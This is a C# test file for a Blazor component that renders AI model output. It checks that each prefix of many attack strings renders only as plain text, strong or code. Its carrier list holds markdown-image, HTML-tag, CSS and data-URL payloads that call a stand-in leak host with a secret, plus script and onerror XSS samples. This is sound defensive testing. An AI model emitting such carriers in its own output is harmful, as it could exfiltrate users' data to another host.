using System.Text.RegularExpressions;
using Microsoft.AspNetCore.Components;
using Microsoft.AspNetCore.Components.Web;
using Microsoft.Extensions.Logging.Abstractions;
using Synapse.Web.Layout;
using Synapse.Web.Tests.TestSupport;
using Synapse.Web.Text;

namespace Synapse.Web.Tests.Text;

/// <summary>What a model writes becomes strong, code and text, and nothing else, at every moment of a stream.</summary>
public sealed partial class InlineTextTests
{
    /// <summary>Forms in which a text can make a careless page ask another host.</summary>
    private static readonly string[] s_carriers =
    [
        "![x](http://127.0.0.1:9/leak?q=secret)",
        "![x][1]\n\n[1]: http://127.0.0.1:9/leak",
        "<http://127.0.0.1:9/leak>",
        "<img src=http://127.0.0.1:9/leak>",
        "<img srcset=\"http://127.0.0.1:9/leak 2x\">",
        "<p style=\"background:url(http://127.0.0.1:9/leak)\">x</p>",
        "<link rel=stylesheet href=http://127.0.0.1:9/leak>",
        "<svg><image href=\"http://127.0.0.1:9/leak\"/></svg>",
        "![x](//127.0.0.1:9/leak)",
        "![x](data:text/html,<script>location='http://127.0.0.1:9/leak'</script>)",
        "See[^1].\n\n[^1]: ![x](http://127.0.0.1:9/leak)",
        "&#33;&#91;x&#93;(http://127.0.0.1:9/leak)",
        "**<img src=x onerror=alert(1)>** and `<script>alert(1)</script>`",
        "**bold `code** mixed`",
    ];

    [Fact]
    public async Task Every_beginning_of_an_attack_renders_as_text_with_two_plain_elements_at_most()
    {
        await using var services = new ServiceCollection().BuildServiceProvider();
        await using var renderer = new HtmlRenderer(services, NullLoggerFactory.Instance);
        var seen = 0;
        foreach (var attack in s_carriers.Concat(Corpus.Attacks))
        {
            for (var length = 1; length <= attack.Length; length++)
            {
                var html = await RenderAsync(renderer, attack[..length]);
                Assert.All(Tag().Matches(html), tag => Assert.Matches("^(</?(strong|code|span)>|<span class=\"hidden-character\">)$", tag.Value));
                seen++;
            }
        }

        Assert.True(seen >= 1_000, $"Only {seen} beginnings were seen.");
    }

    [Theory]
    [InlineData("a **b** c `d*` **", "Plain:a |Strong:b|Plain: c |Code:d*|Plain: **")]
    [InlineData("`open", "Plain:`open")]
    [InlineData("**", "Plain:**")]
    [InlineData("[link](http://x) <b>", "Plain:[link](http://x) <b>")]
    [InlineData("a\u202Eb", "Plain:a|Hidden:[U+202E]|Plain:b")]
    [InlineData("`a\u202Eb`", "Code:a[U+202E]b")]
    public void Only_strong_and_code_are_marks_and_hidden_characters_are_shown(string text, string runs)
        => Assert.Equal(runs, string.Join('|', InlineRun.Split(text).Select(run => $"{run.Style}:{run.Text}")));

    private static Task<string> RenderAsync(HtmlRenderer renderer, string text)
        => renderer.Dispatcher.InvokeAsync(async () =>
            (await renderer.RenderComponentAsync<InlineText>(ParameterView.FromDictionary(new Dictionary<string, object?> { ["Text"] = text }))).ToHtmlString());

    [GeneratedRegex("<[^>]*>?", RegexOptions.NonBacktracking)]
    private static partial Regex Tag();
}
